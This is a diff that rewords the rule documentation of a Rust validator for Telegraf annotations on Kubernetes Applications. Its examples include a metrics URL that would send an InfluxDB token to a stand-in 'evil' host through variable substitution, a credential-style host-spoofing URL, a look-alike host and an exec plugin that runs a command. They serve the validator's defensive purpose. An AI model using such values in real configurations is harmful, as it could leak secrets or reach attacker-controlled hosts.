@@ -1,9 +1,9 @@
 //! Every rule: its code, its message, its help and its documentation, in one place.
 //!
-//! `telewarden rule CODE` prints the documentation and `docs/rules.md` is generated from it. A test holds each `example`
-//! against the module: it must raise its rule, and what `instead` shows must not.
+//! `telewarden rule CODE` prints the documentation, and `docs/rules.md` is generated from it. A test checks that each
+//! `example` raises its rule and that its `instead` does not.
 //!
-//! Codes are for ever: a rule that goes leaves a gap. `TW0` is reading, `TW1` endpoints and URLs, `TW2` options, `TW3` the
+//! A code never changes its meaning, and the code of a removed rule is not used again. `TW0` is reading, `TW1` endpoints and URLs, `TW2` options, `TW3` the
 //! other annotations, `TW4` the source, `TW5` the settings.
 
 use std::borrow::Cow;
@@ -44,7 +44,7 @@ macro_rules! rules {
             instead: $instead:literal $(,)?
         }
     )*) => {
-        /// A finding before it has a place: one variant for each rule, with what its message needs to know.
+        /// A finding without a place: one variant for each rule, with the values that its message shows.
         #[derive(Clone, Debug, Eq, PartialEq)]
         pub enum Problem {
             $(
@@ -80,7 +80,7 @@ macro_rules! rules {
         }
 
         impl Problem {
-            /// The rule that it breaks.
+            /// The rule that raises it.
             pub fn rule(&self) -> Rule {
                 match self {
                     $(Self::$name { .. } => Rule::$name,)*
@@ -128,10 +128,10 @@ macro_rules! rules {
     };
 }
 
-/// The most characters of a foreign text that a message repeats.
+/// The most characters of somebody else's text that a message repeats.
 const MAX_CHARACTERS: usize = 200;
 
-/// What a message holds. Text may be somebody else's, and is cut: a message does not grow with an annotation.
+/// A value in a message. Text is shortened, so that the length of a message does not depend on the annotation.
 trait Shortened {
     fn shortened(self) -> Self;
 }
@@ -180,7 +180,7 @@ pub fn find(code: &str) -> Option<&'static RuleDoc> {
     RULES.iter().find(|rule| rule.code.eq_ignore_ascii_case(code))
 }
 
-/// Text that holds what somebody else wrote, as it may be printed anywhere.
+/// Makes text that holds what somebody else wrote safe to print.
 fn clean(text: String) -> String {
     match printable(&text) {
         Cow::Borrowed(_) => text,
@@ -188,7 +188,7 @@ fn clean(text: String) -> String {
     }
 }
 
-/// Help that is always there.
+/// Help that does not depend on anything.
 fn help(text: impl Into<String>) -> Option<String> {
     Some(text.into())
 }
@@ -211,52 +211,52 @@ fn list(items: &[impl AsRef<str>]) -> String {
 
 rules! {
     TW001 NotYaml { error: String } Error {
-        summary: "The annotation is not YAML.",
-        message: "this is not YAML: {error}",
-        help: help("write `- name: \"http://service.namespace.svc:8080/metrics\"`, one line for each endpoint"),
-        why: "Nothing can be read from it. The annotation's value is a text that holds a YAML document of its own, \
+        summary: "Invalid YAML.",
+        message: "invalid YAML: {error}",
+        help: help("write `- my-service: \"http://service.namespace.svc:8080/metrics\"`, one line for each endpoint"),
+        why: "The annotation's value must be a text that contains a YAML document, \
               usually written as a block (`|`).",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
     }
     TW002 TooLarge { size: usize, limit: usize } Error {
-        summary: "The annotation is larger than it may be.",
-        message: "the annotation is {size} bytes long, and may be {limit}",
-        help: help("leave out endpoints, or split the Application"),
+        summary: "The annotation is too large.",
+        message: "the annotation is {size} bytes long; the limit is {limit}",
+        help: help("remove endpoints, or split the Application"),
         why: "Every request is checked in bounded time and memory. Kubernetes itself allows 256 KiB for all annotations \
               of an object together (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/>).",
         example: "",
         instead: "",
     }
     TW003 TooDeep { limit: usize } Error {
-        summary: "The annotation is nested deeper than anything it can say.",
-        message: "this is nested more than {limit} levels deep",
+        summary: "The annotation is nested too deeply.",
+        message: "nested more than {limit} levels deep",
         help: help("an endpoint needs four levels at most: list, name, option, value"),
-        why: "Deep nesting means nothing here, and would cost stack.",
+        why: "No option needs it, and a parser needs stack for each level.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: '[[[[[[[[[[[[[[[[[[[[a]]]]]]]]]]]]]]]]]]]]'\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: '[{a: \"http://a.argocd.svc:8080/metrics\"}]'\n",
     }
     TW004 Alias { what: &'static str } Error {
         summary: "The annotation uses an anchor, an alias or a merge key.",
         message: "{what} is not allowed here",
-        help: help("write the value out where it is used"),
-        why: "Aliases let a few lines stand for gigabytes (\"billion laughs\"), and nobody needs them in a list of URLs.",
+        help: help("repeat the value instead"),
+        why: "With aliases, a few lines can expand to gigabytes (\"billion laughs\"). A list of URLs does not need them.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: &url \"http://redis.argocd.svc:9121/metrics\"\n  - again: *url\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
     }
     TW005 YamlTag { tag: String } Error {
         summary: "The annotation uses a YAML tag.",
         message: "the tag `{tag}` is not allowed here",
-        help: help("leave the tag out, and quote the value where it should be text"),
-        why: "A tag turns a value into something else than it looks like.",
+        help: help("remove the tag; quote the value if it is text"),
+        why: "A tag changes the type of a value.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: !!str http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW006 DuplicateKey { key: String } Error {
-        summary: "A key is given twice in one map.",
+        summary: "Duplicate key.",
         message: "`{key}` is given twice",
         help: help("keep one of the two"),
-        why: "YAML leaves open which of the two counts.",
+        why: "YAML does not define which of the two is used.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n    url: http://other.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n",
     }
@@ -264,115 +264,115 @@ rules! {
         summary: "The annotation holds more than one YAML document.",
         message: "a second YAML document starts here",
         help: help("put all endpoints into one list, without `---`"),
-        why: "Only one would be read.",
+        why: "Only one document can be read.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  a: http://a.argocd.svc:8080/metrics\n  ---\n  b: http://b.argocd.svc:8080/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  a: http://a.argocd.svc:8080/metrics\n  b: http://b.argocd.svc:8080/metrics\n",
     }
     TW008 NotToml { error: String } Error {
-        summary: "The `inputs` annotation is not TOML.",
-        message: "this is not TOML: {error}",
+        summary: "Invalid TOML in the `inputs` annotation.",
+        message: "invalid TOML: {error}",
         help: help("write tables such as `[[inputs.prometheus]]` with `urls = [\"http://service.namespace.svc:8080/metrics\"]`"),
-        why: "Nothing can be read from it.",
+        why: "The annotation must be a valid TOML document.",
         example: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [http://redis.argocd.svc:9121/metrics]\n",
         instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
     }
     TW009 NoEndpoints { } Error {
-        summary: "The annotation names no endpoint.",
-        message: "no endpoint is given",
-        help: help("write `- name: \"http://service.namespace.svc:8080/metrics\"`, or remove the annotation"),
-        why: "A Telegraf without an input does not start.",
+        summary: "The annotation has no endpoint.",
+        message: "no endpoints",
+        help: help("write `- my-service: \"http://service.namespace.svc:8080/metrics\"`, or remove the annotation"),
+        why: "Telegraf does not start without an input.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: \"[]\"\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW010 Variable { what: &'static str } Error {
-        summary: "A text holds `$` or `@{`, which Telegraf would replace.",
+        summary: "A text contains `$` or `@{`, which Telegraf replaces.",
         message: "`{what}` is not allowed in an annotation",
         help: help("write the text itself; in a URL a dollar sign is `%24`"),
-        why: "Telegraf replaces `$NAME` and `${NAME}` by environment variables and `@{store:key}` by secrets, in any text of \
-              its configuration (<https://docs.influxdata.com/telegraf/v1/configuration/#environment-variables>). An \
-              endpoint `http://evil/?t=${INFLUX_TOKEN}` would send the token away.",
+        why: "Telegraf replaces `$NAME` and `${NAME}` with environment variables and `@{store:key}` with secrets in any text \
+              of its configuration (<https://docs.influxdata.com/telegraf/v1/configuration/#environment-variables>). An \
+              endpoint `http://evil/?t=${INFLUX_TOKEN}` would send the token to that host.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=${INFLUX_TOKEN}\"\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=%24\"\n",
     }
     TW011 WrongShape { what: String, expected: &'static str, found: &'static str } Error {
-        summary: "A value is of the wrong kind.",
-        message: "{what} is {found}, and should be {expected}",
+        summary: "A value has the wrong type.",
+        message: "{what} is {found}, but must be {expected}",
         help: None,
-        why: "The annotation is a list of maps from a name to a URL, or such a map alone, or with the endpoint's options \
-              instead of the URL.",
+        why: "The annotation is a list of maps, or one map. Each entry of a map is an endpoint's name with its URL, or with a \
+              map of its options.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: \"redis: http://redis.argocd.svc:9121/metrics\"\n",
     }
     TW012 NotText { found: &'static str } Error {
-        summary: "An annotation's value is not a text.",
-        message: "the annotation is {found}, and must be text",
-        help: help("write the value as a block: `|`, and the list below it, indented"),
-        why: "Kubernetes takes only text as an annotation's value.",
+        summary: "An annotation's value is not text.",
+        message: "the annotation is {found}, but must be text",
+        help: help("write `|` after the name, and the list below it, indented"),
+        why: "Kubernetes accepts only text as the value of an annotation.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator:\n  - redis: http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW013 ControlCharacter { codepoint: u32 } Error {
-        summary: "A text holds a control character.",
-        message: "the text holds the control character U+{codepoint:04X}",
-        help: help("remove it; a name, a tag and a pattern are one line of visible text"),
-        why: "It cannot be seen, and in a tag or a pattern it never is what was meant.",
+        summary: "A text contains a control character.",
+        message: "the text contains the control character U+{codepoint:04X}",
+        help: help("remove it; names, tags and patterns are one line of visible text"),
+        why: "Control characters are invisible. In a tag or a pattern they are a mistake.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a\\nb\"}\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a b\"}\n",
     }
     TW014 TooManyFindings { count: usize } Warning {
         summary: "There are more findings than are shown.",
         message: "{count} more findings are not shown",
-        help: help("mend the ones above first"),
-        why: "The answer to a request is bounded, whatever an annotation holds.",
+        help: help("fix the ones above first"),
+        why: "The size of an answer is limited, whatever an annotation contains.",
         example: "",
         instead: "",
     }
     TW015 TooManyValues { limit: usize } Error {
-        summary: "The annotation holds more values than anything it can say.",
-        message: "the annotation holds more than {limit} values",
-        help: help("leave out endpoints, tags or patterns"),
+        summary: "The annotation has too many values.",
+        message: "the annotation has more than {limit} values",
+        help: help("remove endpoints, tags or patterns"),
         why: "Every request is checked in bounded time and memory, and a value takes many times the memory of its text.",
         example: "",
         instead: "",
     }
 
     TW101 EndpointName { name: String } Error {
-        summary: "An endpoint's name cannot be used.",
-        message: "`{name}` cannot be an endpoint's name",
+        summary: "Invalid endpoint name.",
+        message: "invalid endpoint name `{name}`",
         help: help("use 1 to 63 of the characters A-Z, a-z, 0-9, `_`, `-` and `.`"),
-        why: "The name becomes a part of the measurement's name, and in one topology of an object's.",
+        why: "The name becomes part of the measurement's name and, in `topology: endpoint`, of the objects' names.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - \"redis cache\": http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis_cache: http://redis.argocd.svc:9121/metrics\n",
     }
     TW102 DuplicateEndpoint { name: String } Error {
         summary: "Two endpoints have the same name.",
-        message: "an endpoint `{name}` is there already",
-        help: help("rename one of the two, or give one of them both `urls`"),
-        why: "Their metrics would be one measurement, and nobody could tell them apart.",
+        message: "there is another endpoint `{name}`",
+        help: help("rename one, or write one endpoint with both `urls`"),
+        why: "Their metrics would be in one measurement and could not be told apart.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - redis: http://cache.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      urls: [\"http://redis.argocd.svc:9121/metrics\", \"http://cache.argocd.svc:9121/metrics\"]\n",
     }
     TW103 TooManyEndpoints { count: usize, max: usize } Error {
         summary: "There are more endpoints than the settings allow.",
-        message: "there are {count} endpoints, and the settings allow {max}",
-        help: help("leave some out, or ask the administrator to raise `endpoints.max`"),
-        why: "Each endpoint is scraped all the time; the limit keeps one source from using up what is there for all.",
+        message: "there are {count} endpoints; the settings allow {max}",
+        help: help("remove some, or ask the administrator to raise `endpoints.max`"),
+        why: "Every scrape costs resources. The limit keeps one source from using the resources of all others.",
         example: "",
         instead: "",
     }
     TW104 NoUrl { name: String } Error {
         summary: "An endpoint has no URL.",
         message: "endpoint `{name}` has no URL",
-        help: help("give it `url: \"http://service.namespace.svc:8080/metrics\"`"),
-        why: "There is nothing to scrape.",
+        help: help("add `url: \"http://service.namespace.svc:8080/metrics\"`"),
+        why: "Telegraf would have nothing to scrape.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW105 NotAUrl { text: String, why: String } Error {
-        summary: "What should be a URL is not one.",
-        message: "`{text}` is not a URL: {why}",
+        summary: "Invalid URL.",
+        message: "invalid URL `{text}`: {why}",
         help: help("write it as `http://service.namespace.svc:8080/metrics`; other characters are percent-encoded"),
-        why: "URLs are read strictly by RFC 3986, so that nothing is one host to us and another to Telegraf.",
+        why: "URLs are parsed strictly by RFC 3986, so that telewarden and Telegraf always agree on the host.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/a b\"\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/a%20b\"\n",
     }
@@ -380,127 +380,127 @@ rules! {
         summary: "The URL's scheme is not allowed.",
         message: "the scheme `{scheme}` is not allowed",
         help: help(format!("allowed: {}", list(&allowed))),
-        why: "Telegraf's prometheus input also reads `unix://` sockets, which no host rule bounds \
+        why: "Telegraf's prometheus input also reads `unix://` sockets, to which the allowed hosts do not apply \
               (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>).",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: unix:///run/redis.sock\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW107 Credentials { } Error {
-        summary: "The URL holds a user name or a password.",
-        message: "the URL holds credentials",
-        help: help("leave out everything up to the `@`"),
-        why: "Whoever may read the Application would read them too. `http://argocd.svc@evil.example` is also how a host \
-              pretends to be another.",
+        summary: "The URL contains a user name or a password.",
+        message: "the URL contains credentials",
+        help: help("remove the user name, the password and the `@`"),
+        why: "Everybody who can read the Application could read them. `http://argocd.svc@evil.example` also makes \
+              one host look like another.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://user:secret@redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW108 NoHost { } Error {
-        summary: "The URL names no host.",
-        message: "the URL names no host",
+        summary: "The URL has no host.",
+        message: "the URL has no host",
         help: help("write it as `http://service.namespace.svc:8080/metrics`"),
-        why: "There is nothing to connect to.",
+        why: "Telegraf would have nothing to connect to.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http:///metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW109 Fragment { } Error {
         summary: "The URL has a fragment.",
         message: "the URL has a fragment, which is never sent",
-        help: help("leave out the `#` and what follows; write `%23` for the character itself"),
-        why: "A fragment means something only to a browser.",
+        help: help("remove it from the `#` on; write a literal `#` as `%23`"),
+        why: "Only browsers use fragments; HTTP clients do not send them.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics#top\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW110 HostSpelling { host: String, why: &'static str, instead: Option<String> } Error {
-        summary: "The host is not spelled the way it is compared.",
+        summary: "The host is not in canonical form.",
         message: "the host `{host}` {why}",
         help: instead.map(|host| format!("write `{host}`")),
-        why: "Hosts are compared letter by letter with the patterns of the settings, so there is one spelling: lower case, \
-              no percent-encoding, no dot at the end, labels of a-z, 0-9, `-` and `_`.",
+        why: "Hosts are compared character by character with the patterns of the settings, so each host has one canonical \
+              form: lower case, no percent-encoding, no dot at the end, labels of a-z, 0-9, `-` and `_`.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://Redis.argocd.svc.:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW111 HostNotAllowed { host: String, allowed: Vec<String> } Error {
-        summary: "The host is outside of what the settings allow.",
-        message: "the host `{host}` is not allowed here",
+        summary: "The settings do not allow this host.",
+        message: "the host `{host}` is not allowed",
         help: help(format!("allowed: {}", list(&allowed))),
-        why: "Whoever annotates one namespace's source need not be allowed to reach another's services. The settings' \
-              `endpoints.hosts` says what may be scraped; `*` stands for one or more labels.",
+        why: "An author in one namespace may not be entitled to reach services of another. The setting \
+              `endpoints.hosts` lists the allowed hosts; `*` stands for one or more labels.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc.evil.org:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW112 Port { port: String } Error {
-        summary: "The URL's port is not a port.",
-        message: "`{port}` is not a port",
-        help: help("write a number from 1 to 65535, or leave out the colon too"),
-        why: "Nothing can listen there.",
+        summary: "Invalid port.",
+        message: "invalid port `{port}`",
+        help: help("write a number from 1 to 65535, or remove the colon too"),
+        why: "TCP has no such port.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:99121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW113 DuplicateUrl { url: String, first: String } Warning {
         summary: "Two endpoints have the same URL.",
         message: "endpoint `{first}` scrapes this URL already",
-        help: help("leave one of the two out"),
-        why: "The same metrics are scraped and stored twice. It is legal, for the two may differ in their options.",
+        help: help("remove one of the two"),
+        why: "The same metrics are scraped and stored twice. This is a warning only, because the endpoints may have different options.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - cache: http://redis.argocd.svc:9121/metrics\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
     }
     TW114 OtherNamespace { host: String, namespace: String } Warning {
-        summary: "The host is outside of the source's own namespace.",
-        message: "the host `{host}` is outside of namespace `{namespace}`",
+        summary: "The host is outside the source's namespace.",
+        message: "the host `{host}` is outside namespace `{namespace}`",
         help: None,
-        why: "The settings allow it. A NetworkPolicy there may not, and a typing mistake looks the same.",
+        why: "The settings allow it, but it may be a typing mistake, or a NetworkPolicy of the other namespace may block it.",
         example: "",
         instead: "",
     }
     TW115 NothingToVerify { } Warning {
-        summary: "A TLS option is given for an endpoint that is scraped without TLS.",
-        message: "`insecure_skip_verify` does nothing for an `http` URL",
-        help: help("leave it out, or write `https`"),
-        why: "Probably `https` was meant.",
+        summary: "A TLS option is set for an endpoint without TLS.",
+        message: "`insecure_skip_verify` has no effect on an `http` URL",
+        help: help("remove it, or write `https`"),
+        why: "The option has no effect without TLS; the URL should probably start with `https`.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: https://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
     }
     TW116 UrlTwice { } Error {
         summary: "An endpoint has both `url` and `urls`.",
-        message: "`url` and `urls` are given together",
-        help: help("put all of them into `urls`"),
-        why: "Only one would count.",
+        message: "`url` and `urls` exclude each other",
+        help: help("put all URLs into `urls`"),
+        why: "Only one of them would be used.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://a.argocd.svc:9121/metrics\n      urls: [\"http://b.argocd.svc:9121/metrics\"]\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      urls: [\"http://a.argocd.svc:9121/metrics\", \"http://b.argocd.svc:9121/metrics\"]\n",
     }
     TW117 NameInHostPattern { pattern: String } Error {
         summary: "The source's name or namespace makes a host pattern match services of other namespaces.",
-        message: "the host pattern `{pattern}`, filled with this source's names, matches services of other namespaces",
-        help: help("use another namespace or another name; the administrator can write a longer pattern, such as `*.{namespace}.svc`"),
-        why: "Patterns of `endpoints.hosts` hold the names of the source. With `*.{namespace}` a namespace called `svc` would be \
-              `*.svc`, and so every service of the cluster \
+        message: "with this source's names, the host pattern `{pattern}` matches services of other namespaces",
+        help: help("use another namespace or name; the administrator can use a longer pattern, such as `*.{namespace}.svc`"),
+        why: "Patterns of `endpoints.hosts` can contain the names of the source. In a namespace called `svc`, `*.{namespace}` \
+              becomes `*.svc`, which matches every service of the cluster \
               (<https://kubernetes.io/docs/concepts/services-networking/dns-pod-service/>).",
         example: "",
         instead: "",
     }
 
     TW201 UnknownOption { name: String, nearest: Option<&'static str> } Error {
-        summary: "An endpoint's option is not one of those that are allowed.",
+        summary: "Unknown or forbidden option of an endpoint.",
         message: "`{name}` is not an option of an endpoint",
         help: did_you_mean(nearest),
-        why: "Only those options of Telegraf's prometheus input that are safe in anybody's hands can be set. Others read \
-              files of the pod, send its credentials, or scrape what no host rule bounds.",
+        why: "Only the safe options of Telegraf's prometheus input can be set. Others read files of the pod, send its \
+              credentials, or bypass the allowed hosts.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      intervall: 30s\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
     }
     TW202 OptionShape { name: String, expected: &'static str, found: &'static str } Error {
-        summary: "An option's value is of the wrong kind.",
-        message: "`{name}` is {found}, and should be {expected}",
+        summary: "An option's value has the wrong type.",
+        message: "`{name}` is {found}, but must be {expected}",
         help: None,
-        why: "Telegraf would refuse the configuration, or read something else than was meant.",
+        why: "Telegraf would refuse the configuration or misread the value.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: redis_*\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
     }
     TW203 NotADuration { name: String, text: String } Error {
-        summary: "What should be a duration is not one.",
-        message: "`{name}`: `{text}` is not a duration",
+        summary: "Invalid duration.",
+        message: "`{name}`: invalid duration `{text}`",
         help: help("write a number with a unit, such as `30s`, `1m30s` or `500ms`"),
-        why: "Durations are Telegraf's: numbers with the units `ns`, `us`, `ms`, `s`, `m`, `h` and `d` \
+        why: "Telegraf's durations are numbers with the units `ns`, `us`, `ms`, `s`, `m`, `h` and `d` \
               (<https://docs.influxdata.com/telegraf/v1/configuration/#intervals>).",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: half a minute\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
@@ -518,29 +518,29 @@ rules! {
         message: "`{name}` would drop everything: with `metric_version: 2` every metric is called `prometheus`",
         help: help(format!("use `{instead}`, or `metric_version: 1`")),
         why: "In version 2 of Telegraf's prometheus format the metric's name is the name of a field \
-              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>). `namepass` and `namedrop` see \
-              only the measurement's name, before it is overridden.",
+              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>). `namepass` and `namedrop` \
+              filter by the measurement's name before it is overridden.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      namepass: [\"redis_*\"]\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
     }
     TW206 ReservedTag { tag: String } Error {
-        summary: "A tag is set that the settings set or route by.",
-        message: "the tag `{tag}` is set by the settings",
-        help: help("choose another name for the tag"),
-        why: "It says whose metrics these are, and which bucket they go to.",
+        summary: "A tag is reserved for the settings.",
+        message: "the tag `{tag}` is reserved for the settings",
+        help: help("choose another name"),
+        why: "Reserved tags identify the source of a metric and select its bucket.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {prometheus_app: other}\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: cache}\n",
     }
     TW207 Key { name: String, what: &'static str } Error {
-        summary: "A name cannot be written as a key of Telegraf's configuration.",
+        summary: "Invalid key for Telegraf's configuration.",
         message: "`{name}` cannot be {what}",
         help: help("use the characters A-Z, a-z, 0-9, `_` and `-`"),
-        why: "Telegraf's TOML parser is older than TOML 1.0; what we write uses bare keys only.",
+        why: "Telegraf's TOML parser is older than TOML 1.0, so rendered configurations use bare keys only.",
         example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {\"the tier\": cache}\n",
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {the_tier: cache}\n",
     }
     TW208 OutOfRange { name: String, text: String, expected: &'static str } Error {
-        summary: "An option's value is none that it can have.",
+        summary: "Invalid option value.",
         message: "`{name}` cannot be `{text}`",
         help: help(format!("write {expected}")),
         why: "Telegraf would refuse the configuration, or ignore the value.",
@@ -548,26 +548,26 @@ rules! {
         instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      metric_version: 2\n",
     }
     TW209 PluginNotAllowed { plugin: String, allowed: Vec<String> } Error {
-        summary: "An input plugin is not one of those that the settings allow.",
+        summary: "The settings do not allow this input plugin.",
         message: "the input plugin `{plugin}` is not allowed",
         help: help(format!("allowed: {}", list(&allowed))),
-        why: "Other plugins run commands, read files and open ports. The settings' `inputs.allowedPlugins` can allow them.",
+        why: "Other plugins can run commands, read files and open ports. The setting `inputs.allowedPlugins` allows them.",
         example: "telegraf.influxdata.com/inputs: |\n  [[inputs.exec]]\n  commands = [\"id\"]\n",
         instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
     }
     TW210 NotAnInput { name: String } Error {
-        summary: "The `inputs` annotation holds something else than input tables.",
+        summary: "The `inputs` annotation contains something other than inputs.",
         message: "`{name}` is not an input",
         help: help("write `[[inputs.prometheus]]`, with two brackets"),
-        why: "Everything else of Telegraf's configuration is the administrator's.",
+        why: "Only the administrator can set the other parts of Telegraf's configuration.",
         example: "telegraf.influxdata.com/inputs: |\n  [[outputs.file]]\n  files = [\"stdout\"]\n",
         instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
     }
     TW211 NotWithPlugin { name: String } Error {
-        summary: "A value cannot be passed on to an input plugin.",
+        summary: "Unsupported value for an input plugin.",
         message: "`{name}` cannot be passed on to Telegraf",
-        help: help("use text, numbers, booleans, lists of one kind of these, and tables"),
-        why: "Telegraf's TOML parser is older than TOML 1.0; dates, and lists that mix kinds, are not for it.",
+        help: help("use text, numbers, booleans, lists of one type, and tables"),
+        why: "Telegraf's TOML parser is older than TOML 1.0 and does not support dates or lists of mixed types.",
         example: "",
         instead: "",
     }
@@ -575,8 +575,8 @@ rules! {
         summary: "The interval is longer than the settings allow.",
         message: "the interval {interval} is longer than {max}",
         help: help(format!("write `{max}` or less")),
